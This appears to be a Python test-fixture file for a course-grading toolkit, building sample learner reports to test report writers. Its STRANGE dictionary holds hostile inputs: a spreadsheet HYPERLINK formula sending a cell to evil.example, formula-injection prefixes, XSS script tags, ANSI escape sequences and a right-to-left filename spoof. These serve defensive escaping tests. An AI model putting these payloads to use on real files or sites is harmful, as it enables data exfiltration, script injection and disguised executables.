"""Grades as a hostile or careless learner would like them to look, for every writer to be tested with."""

from __future__ import annotations

from coursekit.report import Diagnosis, Example, Graded, Outcome, Report, Tier, Verdict

HIDDEN = "torch.tensor([0.1234567, 0.8765432])"  # a hidden input, which no learner may find in a file

STRANGE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>&amp;",
    "xml": "]]><!--<!DOCTYPE a>&lt;",
    "ansi": "\x1b[2J\x1b]0;owned\x07\x1b[31mred",
    "control": "a\x00b\x07c\x08\x7f\x9b31m",
    "surrogate": "caf\udce9 \ud800",
    "right to left": "nna\u202e\u2066 txt.exe\u2069",
    "not a character": "a\ufffeb\uffff",
    "long": "n" * 300,
    "lines": 'two\nlines, "quoted"; and\r\nmore',
    "empty": "",
    "emoji": "Zoë 👩\u200d🔬",
}


def report(name: str = "double", *, outcome: Outcome = Outcome.FAILED, words: str = "", points: float = 0.5) -> Report:
    """A report with a failure in full: rationale, help, example and hidden input."""
    call = f"`{name}({HIDDEN})`"
    passed = Verdict("one", "One number", Tier.CORE, Outcome.PASSED)
    shown = Example(f"{name}({HIDDEN})", "1.0", "2.0")
    failed = Verdict(
        "two", "Two numbers", Tier.CORE, outcome, f"{call} raised ValueError: {words} {HIDDEN}", words, shown
    )
    unasked = Verdict("three", "Three numbers", Tier.PARITY, Outcome.UNCHECKED)
    if outcome is Outcome.PASSED:
        return Report(name, "", outcome, (passed,), points, points)
    return Report(name, "", outcome, (passed, failed, unasked), points, 2.0)


def graded(learner: str = "ada", words: str = "") -> Graded:
    """A learner with one exercise done and one that failed."""
    done = report("triple", outcome=Outcome.PASSED, points=1.0)
    return Graded(learner, (report(words=words), done))


def diagnosed() -> Graded:
    """A learner whose mistake has a name."""
    failed = Verdict("one", "One number", Tier.CORE, Outcome.FAILED, "The value is not right.")
    why = Diagnosis("squared", "This is the square.")
    return Graded("bob", (Report("double", "bob", Outcome.FAILED, (failed,), 0.0, 2.0, why),))


def unread(words: str = "It is not a regular file.", learner: str = "kim") -> Graded:
    """A learner whose files could not be opened."""
    verdict = Verdict("one", "One number", Tier.CORE, Outcome.UNCHECKED, words)
    return Graded(learner, (Report("double", learner, Outcome.UNATTEMPTED, (verdict,), 0.0, 2.0),), words)


def starved(learner: str = "lea") -> Graded:
    """A learner of whose work the machine was too busy to grade one exercise."""
    done = report("triple", outcome=Outcome.PASSED, points=1.0)
    return Graded(learner, (report(outcome=Outcome.STARVED, points=0.0), done))
